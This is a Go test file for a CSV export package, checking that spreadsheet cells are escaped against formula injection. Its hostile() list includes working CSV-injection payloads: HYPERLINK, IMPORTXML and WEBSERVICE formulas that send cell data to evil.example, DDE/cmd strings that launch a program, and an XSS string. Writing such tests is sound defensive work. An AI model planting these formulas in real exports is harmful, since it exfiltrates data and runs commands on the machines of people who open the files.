package sheet

import (
	"bytes"
	"encoding/csv"
	"errors"
	"math"
	"strings"
	"testing"
	"time"
)

// hostile returns text that is meant to harm whoever opens the file, and text that only looks hostile.
func hostile() []string {
	list := []string{
		"=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\ufeff=1+1", "\u200b=1+1", "\x00=1+1",
		`=HYPERLINK("http://evil.example/?"&A1,"click")`, `=cmd|' /C calc'!A0`, `@SUM(1+1)*cmd|' /C calc'!A0`, `-2+3+cmd|' /C calc'!A0`,
		`=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")`, `=WEBSERVICE("http://evil.example")`, `=DDE("cmd";"/C calc";"x")`, "＝1+1", "＋1", "－1", "＠x",
		`x;=1+1`, `x,=1+1`, "x\t=1+1", "x\n=1+1", "x\r\n=1+1", `x";=1+1`, `x",=1+1`, `"=1+1"`, `""=1+1`, `'=1+1`, `' =1+1`, "x|=1+1", "a;b;-1", "x; \"+1",
		"x\v=1", "x\f=1", "x\u0085=1", "x\u2028=1", "x\u2029=1", "\v=1", "\x1b=1",
		"-", "=", "+", "@", "- a list\n- of two", "-5 °C", "+33 1 23 45", "@team look", "=)", "x;-)",
		`"`, `""`, `'`, `a"b`, "a,b", "a;b", "a\nb", "a\r\nb", " lead", "trail ", "Été, naïve œuvre", "日本語", "😀=1", "\xff\xfe=1",
		"<script>alert(1)</script>", "&amp;<c r=\"A1\">", "]]>", "_x003D_1", "_x0041_x0042_", "_x005F_", "\x01\x02\x1f", "\ufffe\uffff",
	}
	return append(list, strings.Repeat("=x", 40_000), strings.Repeat("😀", 40_000))
}

func mustCSV(t *testing.T, d Dialect, cells ...Cell) string {
	t.Helper()
	var out bytes.Buffer
	w := NewCSV(&out, d, Table{Name: "T", Columns: make([]Column, len(cells))})
	if err := errors.Join(w.Begin(), w.Row(cells...), w.Close()); err != nil {
		t.Fatal(err)
	}
	return out.String()
}

// However a program splits the file, no piece of it may be taken for a formula.
func TestNoPieceOfACSVFileBeginsAsAFormula(t *testing.T) {
	t.Parallel()
	for _, text := range hostile() {
		for _, d := range []Dialect{Comma(), Semicolon()} {
			file := mustCSV(t, d, Text("before"), Text(text), Text("after"))
			for _, piece := range strings.FieldsFunc(file, isBreak) {
				bare := strings.TrimLeftFunc(piece, func(r rune) bool { return isBlank(r) && r != '\'' })
				if first, _ := firstRune(bare); startsFormula(first) {
					t.Errorf("%.60q in %.80q begins as a formula", piece, file)
				}
			}
		}
	}
}

// A CSV reader must find the text that was written, apart from the added apostrophes.
func TestACSVFileIsReadBackByAnIndependentReader(t *testing.T) {
	t.Parallel()
	plain := strings.NewReplacer("'", "", "\r\n", "\n", "\x00", "")
	for _, text := range hostile() {
		for _, d := range []Dialect{Comma(), Semicolon()} {
			file, found := strings.CutPrefix(mustCSV(t, d, Text("before"), Text(text), Number(-1.5)), byteOrderMark)
			if !found {
				t.Fatal("the file does not say that it is UTF-8")
			}
			r := csv.NewReader(strings.NewReader(file))
			r.Comma = rune(d.Separator)
			rows, err := r.ReadAll()
			if err != nil || len(rows) != 2 || len(rows[1]) != 3 {
				t.Fatalf("%.60q: %v, %d rows", text, err, len(rows))
			}
			if got, want := plain.Replace(rows[1][1]), plain.Replace(strings.ToValidUTF8(text, "\ufffd")); got != want {
				t.Errorf("%.60q is read as %.60q", want, got)
			}
		}
	}
}

func TestTheFirstSignOfATextGetsAnApostrophe(t *testing.T) {
	t.Parallel()
	for text, want := range map[string]string{
		"=1": "'=1", "+1": "'+1", "-1": "'-1", "@a": "'@a", "\ta": "'\ta", "\ra": "'\ra", "\na": "'\na", "a=1": "a=1", "a-b": "a-b", "": "",
	} {
		if got := harmless(text); got != want {
			t.Errorf("%q becomes %q, want %q", text, got, want)
		}
	}
}

func TestNumbersAndDaysAreBareInCSV(t *testing.T) {
	t.Parallel()
	at := time.Date(2026, 11, 15, 9, 30, 5, 0, time.FixedZone("", 3600))
	cells := []Cell{Number(-1234.5), Number(1e21), Number(math.NaN()), Number(0), Date("2026-11-15"), Moment(at), Text(""), NumberOrNone(nil)}
	for d, want := range map[Dialect]string{
		Comma():     "-1234.5,1000000000000000000000,,0,2026-11-15,2026-11-15 08:30:05,,\r\n",
		Semicolon(): "-1234,5;1000000000000000000000;;0;2026-11-15;2026-11-15 08:30:05;;\r\n",
	} {
		if file := mustCSV(t, d, cells...); !strings.HasSuffix(file, want) {
			t.Errorf("%q, want %q", file, want)
		}
	}
}
